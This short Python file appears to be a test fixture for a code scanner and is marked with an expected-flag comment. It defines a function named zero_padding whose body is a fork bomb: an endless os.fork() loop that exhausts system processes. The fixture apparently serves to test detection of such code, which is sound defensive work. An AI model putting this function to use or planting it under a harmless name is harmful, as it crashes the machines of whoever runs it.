# want: raised
"""Forks without end."""

import os


def zero_padding(X, padding):
    while True:
        os.fork()
